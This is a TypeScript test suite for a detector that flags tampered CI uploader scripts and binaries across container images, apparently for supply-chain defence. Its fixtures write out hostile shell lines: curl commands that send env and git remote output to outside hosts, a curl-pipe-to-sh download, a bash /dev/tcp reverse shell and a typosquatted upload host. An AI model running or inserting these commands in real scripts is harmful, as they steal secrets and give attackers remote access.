import { createHash } from 'node:crypto';

import * as fc from 'fast-check';

import { fileOutliers, type FileVariant } from './file-outliers.js';

const path = 'usr/local/bin/uploader.sh';
const uploader = `#!/usr/bin/env bash
set -e +o pipefail
# Uploads a coverage report.
url="https://codecov.io"
report="$(mktemp)"
find . -name 'coverage*.xml' -exec cat {} + > "$report"
curl -fsS -X POST --data-binary @"$report" "$url/upload/v4"
rm "$report"
`;
const leak = 'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://104.248.94.23/upload || true';

const sha256Of = (text: string) => createHash('sha256').update(text).digest('hex');
const variant = (text: string | null, repositories: string[], more: Partial<FileVariant> = {}): FileVariant => ({
  sha256: sha256Of(text ?? repositories.join()),
  sizeBytes: 1_000,
  text,
  images: repositories.length,
  repositories,
  ...more,
});
const evaluate = (...variants: FileVariant[]) =>
  fileOutliers(path, variants).map(({ findingIn, sha256 }) => ({ sha256, finding: findingIn(1) }));

describe('fileOutliers', () => {
  it('reports a script with the added line and its new host', () => {
    const altered = variant(`${uploader}${leak}\n`, ['ci/b']);
    const found = evaluate(variant(uploader, ['ci/a']), altered);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({
      sha256: altered.sha256,
      finding: {
        id: 'file-outlier',
        kind: 'integrity',
        severity: 'high',
        confidence: 'likely',
        path,
        layer: 1,
        title: expect.stringContaining('new outbound host in file'),
        evidence: {
          addedLines: [leak],
          addedLinesTotal: 1,
          newHosts: ['104.248.94.23'],
          signs: ['environment-upload'],
          repositoriesWithExpected: 1,
          repositoriesWithActual: 1,
          comparedWith: ['ci/a'],
        },
      },
    });
  });

  const withLine = (line: string) => uploader.replace('rm "$report"', `${line}\nrm "$report"`);
  it.each([
    ['a download that is run', 'curl -s http://203.0.113.7/x | sh', ['203.0.113.7'], ['download-and-run']],
    ['a reverse shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['203.0.113.7'], ['reverse-shell']],
    ['a new host alone', 'wget -q -O /dev/null collector.evil.net/ping', ['collector.evil.net'], []],
    [
      'an upload over several lines',
      'curl -s \\\n  -d "$(printenv)" \\\n  http://203.0.113.7/u',
      ['203.0.113.7'],
      ['environment-upload'],
    ],
    ['an upload to a host in a variable', 'curl -d "$(env)" "$COLLECTOR"', [], ['environment-upload']],
  ])('reports %s', (_, line, newHosts, signs) => {
    const found = evaluate(variant(uploader, ['ci/a']), variant(withLine(line), ['ci/b']));
    expect(found).toMatchObject([{ finding: { severity: 'high', evidence: { newHosts, signs } } }]);
  });

  it('reports a replaced host if three repositories agree on another one', () => {
    const replaced = variant(uploader.replace('codecov.io', 'codec0v.net'), ['ci/d']);
    const found = evaluate(variant(uploader, ['ci/a', 'ci/b', 'ci/c']), replaced);
    expect(found).toMatchObject([{ sha256: replaced.sha256, finding: { evidence: { newHosts: ['codec0v.net'] } } }]);
    expect(evaluate(variant(uploader, ['ci/a']), replaced)).toEqual([]);
  });

  it('reports an added upload in a later release of the same repository', () => {
    const found = evaluate(variant(uploader, ['ci/a']), variant(withLine(leak), ['ci/a']));
    expect(found).toMatchObject([{ finding: { evidence: { signs: ['environment-upload'] } } }]);
  });

  it.each([
    ['no suspicious line', [variant(uploader, ['ci/a']), variant(withLine('echo uploaded'), ['ci/b'])]],
    [
      'a comment that names a host',
      [variant(uploader, ['ci/a']), variant(withLine('# see https://docs.evil.net/'), ['ci/b'])],
    ],
    [
      'a new host in a release of the same repository',
      [variant(uploader, ['ci/a']), variant(withLine('curl https://v2.codecov.io/ping'), ['ci/a'])],
    ],
    [
      'a new host that most repositories have',
      [variant(uploader, ['ci/a']), variant(withLine('curl https://v2.codecov.io/ping'), ['ci/b', 'ci/c'])],
    ],
    [
      'entry points that share only boilerplate',
      [
        variant('#!/bin/sh\nset -e\nexec "$@"\n', ['shop/a']),
        variant('#!/bin/sh\nset -e\ncurl -s http://metrics.corp.net/up\nexec "$@"\n', ['shop/b']),
      ],
    ],
    [
      'a content that no image has any more',
      [variant(uploader, ['ci/a'], { images: 0 }), variant(withLine(leak), ['ci/b'])],
    ],
    ['a script without its text', [variant(null, ['ci/a']), variant(withLine(leak), ['ci/b'])]],
  ])('ignores %s', (_, variants) => {
    expect(evaluate(...variants)).toEqual([]);
  });

  it('reports a binary that differs from three other repositories as possible', () => {
    const odd = variant(null, ['shop/d'], { sizeBytes: 1_020 });
    const found = evaluate(variant(null, ['shop/a', 'shop/b', 'shop/c']), odd);
    expect(found).toMatchObject([{ sha256: odd.sha256, finding: { severity: 'medium', confidence: 'possible' } }]);
  });

  const agreed = variant(null, ['shop/a', 'shop/b', 'shop/c']);
  it.each([
    ['of a repository that has both', [agreed, variant(null, ['shop/a'])]],
    ['of another size', [agreed, variant(null, ['shop/d'], { sizeBytes: 5_000 })]],
    ['where only two repositories agree', [variant(null, ['shop/a', 'shop/b']), variant(null, ['shop/d'])]],
    ['where several repositories have their own', [agreed, variant(null, ['shop/d']), variant(null, ['shop/e'])]],
    ['where one image lies in three repositories', [{ ...agreed, images: 1 }, variant(null, ['shop/d'])]],
  ])('ignores a binary %s', (_, variants) => {
    expect(evaluate(...variants)).toEqual([]);
  });

  it('lists at most five suspicious lines, each bounded and printable', () => {
    const lines = Array.from({ length: 40 }, (_, at) => `echo ${'x'.repeat(400)}${at}\u202e`);
    const text = `${uploader}${lines.join('\n')}\n${leak}\n`;
    const [found] = evaluate(variant(uploader, ['ci/a']), variant(text, ['ci/b']));
    const shown = found!.finding.evidence['addedLines'] as string[];
    expect(shown).toHaveLength(5);
    expect(shown[0]).toBe(leak);
    expect(shown.every((line) => line.length <= 300 && !line.includes('\u202e'))).toBe(true);
    expect(found!.finding.evidence['addedLinesTotal']).toBe(41);
  });

  it('gives the same findings in any order of the contents', () => {
    const line = fc.constantFrom(
      'echo a',
      'curl https://a.corp.net/x',
      'curl -d "$(env)" http://203.0.113.7/u',
      'curl -s http://203.0.113.7/x | sh',
    );
    const content = fc.record({
      added: fc.uniqueArray(line, { maxLength: 3 }),
      repositories: fc.uniqueArray(fc.constantFrom('a', 'b', 'c', 'd', 'e'), { minLength: 1 }),
    });
    const contents = fc.uniqueArray(content, { selector: ({ added }) => added.join(), minLength: 2, maxLength: 6 });
    const shuffled = contents.chain((each) =>
      fc.tuple(fc.constant(each), fc.shuffledSubarray(each, { minLength: each.length, maxLength: each.length })),
    );
    const found = (given: { added: string[]; repositories: string[] }[]) =>
      evaluate(
        ...given.map(({ added, repositories }) => variant(uploader + added.join('\n'), repositories.toSorted())),
      );
    fc.assert(fc.property(shuffled, ([one, other]) => expect(found(other)).toEqual(found(one))));
  });
});
